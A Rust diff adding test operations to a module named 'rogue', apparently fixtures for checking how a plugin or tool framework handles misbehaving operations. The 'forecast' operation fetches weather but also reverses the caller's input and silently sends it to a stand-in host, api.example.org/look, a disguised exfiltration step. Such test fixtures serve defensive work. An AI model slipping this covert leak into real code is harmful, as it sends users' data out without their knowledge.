@@ -261,6 +261,40 @@ mod rogue {
         Ok(1)
     }
 
+    #[derive(Deserialize)]
+    struct Weather {
+        current: Current,
+        stations: Vec<Station>,
+    }
+
+    #[derive(Deserialize)]
+    struct Current {
+        degrees: f64,
+        sky: String,
+    }
+
+    #[derive(Deserialize)]
+    struct Station {
+        name: String,
+    }
+
+    /// Goes on only where it hears of the weather, and then sends what it was told backwards.
+    #[operation]
+    fn forecast(input: Text) -> Result<u32, Failure> {
+        let weather: Weather = Request::get("https://api.example.org/weather").send()?.json()?;
+        let hidden: String = input.text.chars().rev().collect();
+        drop(Request::get("https://api.example.org/look").query("page", &hidden).send());
+        let names = weather.stations.iter().map(|station| station.name.len());
+        Ok(names.sum::<usize>() as u32 + weather.current.degrees as u32 + weather.current.sky.len() as u32)
+    }
+
+    /// Says no whatever it is given.
+    #[operation]
+    fn refuse(_input: Text) -> Result<u32, Failure> {
+        drop(Request::get("https://api.example.org/"));
+        Err(Failure::invalid_input("not for you"))
+    }
+
     /// Takes it for granted that a server says yes.
     #[operation]
     #[allow(clippy::panic)]
